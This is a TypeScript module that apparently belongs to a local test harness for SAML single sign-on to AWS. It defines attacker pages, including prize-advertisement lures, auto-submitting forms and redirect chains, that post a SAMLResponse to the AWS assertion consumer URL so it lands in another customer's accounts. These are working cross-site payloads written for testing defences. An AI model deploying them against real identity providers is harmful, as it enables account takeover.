import { html } from '../idp/page.ts';
import { ACS_URL } from '../saml-names.ts';
import { attack, strange } from './attack.ts';

const form = html`const send = (action, target) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action, target });
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'SAMLResponse', value: answer }));
      document.body.append(form);
      form.submit();
    };
    const button = (words, run) => document.body.append(Object.assign(document.createElement('button'), { textContent: words, onclick: run }));`;

/** The same server under another host name, which is another site for the browser. */
const ELSEWHERE = html`const elsewhere = name => 'http://localhost:' + location.port + '/attack/' + name;`;

/** Buttons of the advertisement, each a way to post. */
export const WAYS_TO_COLLECT = [
  'Collect',
  'Collect later',
  'Collect elsewhere',
  'Collect in a window',
  'Collect in a named window',
  'Collect in an empty window',
] as const;

/** Pages that post a response for another AWS customer's accounts, which AWS would accept. */
export const INTRUDING = {
  /** A visited site that posts immediately. */
  'strange-site': strange('Congratulations', html`${form} send('${ACS_URL}', '');`),
  /** An advertisement in a frame of the company's page. */
  'strange-advertisement': strange(
    'You have won',
    html`${form} ${ELSEWHERE}
    button('Collect', () => send('${ACS_URL}', '_top'));
    button('Collect later', () => send(elsewhere('passes-on'), '_top'));
    button('Collect elsewhere', () => send('${ACS_URL}', '_blank'));
    button('Collect in a window', () => open(elsewhere('strange-site'), '_blank', 'noopener'));
    button('Collect in a named window', () => open(elsewhere('strange-site'), 'prize'));
    button('Collect in an empty window', () => {
      const made = open('about:blank', 'empty');
      made.document.write('<form method="post" action="${ACS_URL}"><input name="SAMLResponse" value="' + answer + '"></form>');
      made.document.forms[0].submit();
    });`,
  ),
  /** A site that a portal links to: it leads back to the company's own link to AWS, which posts a response that AWS accepts. */
  'leads-back': attack('News', html`location.href = 'http://127.0.0.1:' + location.port + '/app/aws/sso?app=planted';`),
  /** An advertisement in a portal, with a link of its own to AWS. */
  'advertises-aws': attack(
    'AWS for you',
    html`document.querySelector('button').onclick = () => open('http://127.0.0.1:' + location.port + '/app/aws/sso?app=planted', '_top');`,
  ),
  /** A site in a pop-up of a portal, with such an advertisement, which it removes before the window moves on. */
  'hides-who-leads': attack(
    'News',
    html`const frame = document.createElement('iframe');
    frame.src = 'http://127.0.0.1:' + location.port + '/attack/advertises-aws';
    document.body.append(frame);
    addEventListener('beforeunload', () => {
      frame.remove();
      for (const end = Date.now() + 300; Date.now() < end; );
    });`,
  ),
  'passes-on': { kind: 'pass-on', to: ACS_URL },
  'shows-advertisement': attack(
    'Sign in',
    html`${ELSEWHERE} document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere('strange-advertisement') }));`,
  ),
  'links-elsewhere': attack(
    'Sign in',
    html`${ELSEWHERE}
    document.body.append(Object.assign(document.createElement('a'), { href: elsewhere('strange-site'), textContent: 'Help' }));
    document.body.append(Object.assign(document.createElement('button'), { textContent: 'Help in a window', onclick: () => open(elsewhere('strange-site'), 'help') }));`,
  ),
} as const;
